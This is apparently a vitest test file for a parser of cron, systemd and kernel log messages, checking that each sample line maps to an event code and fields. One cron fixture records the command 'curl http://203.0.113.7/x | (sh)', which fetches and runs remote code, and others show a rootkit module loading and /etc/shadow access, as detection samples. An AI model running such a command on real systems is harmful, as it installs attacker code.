import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { parseServiceMessage } from './parse.ts'

describe('cron, systemd and the kernel', () => {
  test.each<[program: string, message: string, code: string, fields: object]>([
    [
      'CRON',
      '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)',
      'cron_command',
      { user: 'root', command: 'cd / && run-parts --report /etc/cron.hourly' },
    ],
    [
      'CROND',
      '(bob) CMD (curl http://203.0.113.7/x | (sh))',
      'cron_command',
      { user: 'bob', command: 'curl http://203.0.113.7/x | (sh)' },
    ],
    ['crontab', '(root) REPLACE (bob)', 'crontab_replaced', { actor: 'root', user: 'bob' }],
    ['/usr/bin/crontab', '(bob) BEGIN EDIT (bob)', 'crontab_edited', { actor: 'bob' }],
    [
      'atd',
      "Starting job 7 (a000071b9c3a) for user 'bob' (1001)",
      'at_job_started',
      { job: '7', user: 'bob', uid: '1001' },
    ],
    [
      'systemd',
      'Started nginx.service - A high performance web server.',
      'unit_started',
      { unit: 'nginx.service', description: 'A high performance web server' },
    ],
    [
      'systemd',
      'Started Daily apt download activities.',
      'unit_started',
      { name: 'Daily apt download activities' },
    ],
    [
      'systemd',
      "nginx.service: Failed with result 'exit-code'.",
      'unit_failed',
      { unit: 'nginx.service', result: 'exit-code' },
    ],
    [
      'systemd',
      'nginx.service: Main process exited, code=exited, status=1/FAILURE',
      'unit_process_exited',
      { code: 'exited', status: '1/FAILURE' },
    ],
    [
      'systemd',
      'Failed to start nginx.service - A high performance web server.',
      'unit_start_failed',
      { unit: 'nginx.service' },
    ],
    [
      'systemd',
      'nginx.service: Scheduled restart job, restart counter is at 5.',
      'unit_restarts',
      { count: '5' },
    ],
    ['systemd', 'nginx.service: Deactivated successfully.', 'unit_stopped', { unit: 'nginx.service' }],
    [
      'systemd',
      'Stopped nginx.service - A high performance web server.',
      'unit_stopped',
      { unit: 'nginx.service' },
    ],
    ['systemd', 'Reloading.', 'units_reloaded', {}],
    [
      'kernel',
      '[ 5412.118] Out of memory: Killed process 4711 (node) total-vm:1234kB, anon-rss:99kB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:12kB oom_score_adj:0',
      'out_of_memory',
      { pid: '4711', process: 'node', uid: '1000' },
    ],
    [
      'kernel',
      'Out of Memory: Killed process 1234 (httpd).',
      'out_of_memory',
      { pid: '1234', process: 'httpd' },
    ],
    [
      'kernel',
      'a.out[4711]: segfault at 0 ip 00005581f2c1a13d sp 00007ffd12345678 error 6 in a.out[5581f2c1a000+1000]',
      'segfault',
      { process: 'a.out', pid: '4711', address: '0', file: 'a.out' },
    ],
    [
      'kernel',
      'traps: php-fpm[22] general protection fault ip:7f1 sp:7ff error:0 in libc.so.6[7f+1]',
      'trap',
      { process: 'php-fpm', trap: 'general protection fault', file: 'libc.so.6' },
    ],
    [
      'kernel',
      '[   12.345678] diamorphine: loading out-of-tree module taints kernel.',
      'module_tainted',
      { module: 'diamorphine' },
    ],
    [
      'kernel',
      'diamorphine: module verification failed: signature and/or required key missing - tainting kernel',
      'module_tainted',
      { module: 'diamorphine' },
    ],
    [
      'kernel',
      'usb 1-1: New USB device found, idVendor=0781, idProduct=5583, bcdDevice= 1.00',
      'usb_attached',
      { port: '1-1', vendor_id: '0781', product_id: '5583' },
    ],
    ['kernel', 'usb 1-1: SerialNumber: 4C530001', 'usb_product', { serial: '4C530001' }],
    ['kernel', 'usb 1-1: USB disconnect, device number 5', 'usb_detached', { number: '5' }],
    ['kernel', 'usb-storage 1-1:1.0: USB Mass Storage device detected', 'usb_storage', { port: '1-1:1.0' }],
    ['kernel', 'device eth0 entered promiscuous mode', 'promiscuous_on', { device: 'eth0' }],
    ['kernel', 'eth0: entered promiscuous mode', 'promiscuous_on', { device: 'eth0' }],
    [
      'kernel',
      'Lockdown: insmod: unsigned module loading is restricted; see man kernel_lockdown.7',
      'module_refused',
      { process: 'insmod' },
    ],
    [
      'kernel',
      'Lockdown: dd: /dev/mem,kmem,port is restricted; see man kernel_lockdown.7',
      'lockdown_refused',
      { process: 'dd' },
    ],
    [
      'kernel',
      '[UFW BLOCK] IN=eth0 OUT= MAC=aa:bb SRC=203.0.113.7 DST=192.0.2.1 LEN=40 TOS=0x00 PREC=0x00 TTL=244 ID=54321 PROTO=TCP SPT=44321 DPT=22 WINDOW=1024',
      'packet_logged',
      { prefix: '[UFW BLOCK]', src: '203.0.113.7', dst: '192.0.2.1', proto: 'TCP', dst_port: '22' },
    ],
    [
      'kernel',
      'audit: type=1400 audit(1700000000.123:42): apparmor="DENIED" operation="open" profile="/usr/sbin/mysqld" name="/etc/shadow" pid=4711 comm="mysqld" requested_mask="r" denied_mask="r" fsuid=106 ouid=0',
      'apparmor_denied',
      { operation: 'open', profile: '/usr/sbin/mysqld', name: '/etc/shadow', process: 'mysqld' },
    ],
  ])('%s: %s', (program, message, code, fields) => {
    expect(parseServiceMessage(program, message)).toMatchObject({ code, fields })
  })

  test('other programs, and other messages, are not understood', () => {
    expect(parseServiceMessage('nginx', '(root) CMD (id)')).toBeUndefined()
    expect(parseServiceMessage('systemd', 'nginx')).toBeUndefined()
    expect(parseServiceMessage('constructor', 'Started x.')).toBeUndefined()
    expect(parseServiceMessage('kernel', 'eth0: link up')).toBeUndefined()
  })

  test('whatever the message, there is an answer', () => {
    const program = fc.constantFrom('kernel', 'cron', 'systemd', 'x')
    fc.assert(
      fc.property(program, fc.string({ unit: 'binary', maxLength: 200 }), (name, text) => {
        for (const value of Object.values(parseServiceMessage(name, text)?.fields ?? {})) {
          expect(typeof value).toBe('string')
        }
      }),
    )
  })
})
